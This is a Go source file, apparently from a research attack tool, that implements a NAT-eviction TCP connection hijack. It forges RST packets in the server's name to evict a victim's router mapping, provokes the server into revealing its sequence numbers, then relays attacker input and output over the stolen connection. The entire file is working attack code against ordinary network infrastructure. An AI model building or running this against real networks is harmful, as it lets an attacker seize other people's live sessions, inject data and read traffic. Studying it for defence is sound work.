// Package hijack implements the connection eviction and hijack attack
// (spec.md §4.6): evict a victim's live NAT mapping, provoke the
// server into revealing its true sequence numbers, then relay stdin
// and stdout over the hijacked 5-tuple.
package hijack

import (
	"fmt"
	"io"
	"time"

	"github.com/sirupsen/logrus"

	"github.com/hollowpoint-sec/natattack/internal/iface"
	"github.com/hollowpoint-sec/natattack/internal/packet"
	"github.com/hollowpoint-sec/natattack/internal/randgen"
	"github.com/hollowpoint-sec/natattack/internal/sendpolicy"
	"github.com/hollowpoint-sec/natattack/internal/topology"
)

const (
	pollQuantum      = 10 * time.Millisecond
	tapReceiveWindow = 5 * time.Millisecond
	stdinBufSize     = 4096
	halfSequenceSpan = 1 << 31
)

// Options configures one hijack run.
type Options struct {
	Port          uint16
	Timeout       time.Duration
	RouterTimeout time.Duration
}

// Stdin is the subset of *os.File Run needs from standard input: it
// must be readable and pollable alongside the tap descriptor.
type Stdin interface {
	io.Reader
	Fd() uintptr
}

// Run executes the eviction/probe/relay state machine. It reports
// evicted=false (with no error) when the provoking PSH draws no
// response within Options.Timeout, per spec.md §4.6 step 5's
// "eviction failed" outcome — this is a semantic result, not an error.
func Run(dev iface.Device, policy sendpolicy.Policy, topo topology.Topology, opts Options, stdin Stdin, stdout io.Writer, logger logrus.FieldLogger) (bool, error) {
	if logger == nil {
		logger = logrus.StandardLogger()
	}

	serverISN := randgen.LowHalfUint32()
	attackerISN := randgen.LowHalfUint32()
	garbageAck := randgen.LowHalfUint32()

	router := packet.Address{IP: topo.Router, Port: opts.Port}

	rstLow := packet.New()
	rstLow.Src = topo.Server
	rstLow.Dst = router
	rstLow.Seq = serverISN
	rstLow.RST = true
	if err := policy.Emit(dev, &rstLow); err != nil {
		return false, err
	}

	rstHigh := packet.New()
	rstHigh.Src = topo.Server
	rstHigh.Dst = router
	rstHigh.Seq = serverISN + halfSequenceSpan
	rstHigh.RST = true
	if err := policy.Emit(dev, &rstHigh); err != nil {
		return false, err
	}

	time.Sleep(opts.RouterTimeout)

	psh := packet.New()
	psh.Src = packet.Address{IP: topo.Attacker, Port: opts.Port}
	psh.Dst = topo.Server
	psh.Seq = attackerISN
	psh.Ack = &garbageAck
	psh.PSH = true
	if err := policy.Emit(dev, &psh); err != nil {
		return false, err
	}

	resp, err := dev.Receive(func(p *packet.Packet) bool {
		return !p.RST
	}, opts.Timeout)
	if err != nil {
		return false, err
	}
	if resp == nil {
		fmt.Fprintln(stdout, "eviction failed")
		logger.WithField("port", opts.Port).Warn("hijack: no response to provoking PSH")
		return false, nil
	}

	trueAck := resp.Seq
	var trueSeq uint32
	if resp.Ack != nil {
		trueSeq = *resp.Ack
	}

	logger.WithFields(logrus.Fields{
		"port":     opts.Port,
		"true_seq": trueSeq,
		"true_ack": trueAck,
	}).Info("hijack: eviction succeeded, entering relay")

	if err := relay(dev, policy, topo, opts.Port, trueSeq, trueAck, stdin, stdout, logger); err != nil {
		return true, err
	}
	return true, nil
}

// relay multiplexes standard input and the tap device with a 10ms
// poll quantum, resynchronizing its sequence-number state from every
// received segment rather than tracking it across sends (spec.md
// §4.6's closing note).
func relay(dev iface.Device, policy sendpolicy.Policy, topo topology.Topology, port uint16, trueSeq, trueAck uint32, stdin Stdin, stdout io.Writer, logger logrus.FieldLogger) error {
	fds := []int{int(stdin.Fd()), dev.FD()}
	buf := make([]byte, stdinBufSize)

	for {
		readable, err := iface.Poll(fds, pollQuantum)
		if err != nil {
			return err
		}

		if readable[0] {
			n, rerr := stdin.Read(buf)
			if n > 0 {
				psh := packet.New()
				psh.Src = packet.Address{IP: topo.Attacker, Port: port}
				psh.Dst = topo.Server
				psh.Seq = trueSeq
				ack := trueAck
				psh.Ack = &ack
				psh.PSH = true
				psh.Data = append([]byte(nil), buf[:n]...)
				if err := policy.Emit(dev, &psh); err != nil {
					return err
				}
			}
			if rerr != nil {
				if rerr == io.EOF {
					return nil
				}
				return rerr
			}
		}

		if readable[1] {
			pkt, err := dev.Receive(func(p *packet.Packet) bool {
				return p.Dst.Port == port
			}, tapReceiveWindow)
			if err != nil {
				return err
			}
			if pkt == nil {
				continue
			}

			trueAck = pkt.Seq
			if pkt.Ack != nil {
				trueSeq = *pkt.Ack
			}

			switch {
			case pkt.FIN:
				fin := packet.New()
				fin.Src = packet.Address{IP: topo.Attacker, Port: port}
				fin.Dst = topo.Server
				fin.Seq = trueSeq
				ack := trueAck
				fin.Ack = &ack
				fin.FIN = true
				if err := policy.Emit(dev, &fin); err != nil {
					return err
				}
				return nil
			case pkt.PSH:
				if _, err := stdout.Write(pkt.Data); err != nil {
					return err
				}
				ackPkt := packet.New()
				ackPkt.Src = packet.Address{IP: topo.Attacker, Port: port}
				ackPkt.Dst = topo.Server
				ackPkt.Seq = trueSeq
				ack := trueAck + uint32(len(pkt.Data))
				ackPkt.Ack = &ack
				if err := policy.Emit(dev, &ackPkt); err != nil {
					return err
				}
			}
		}
	}
}
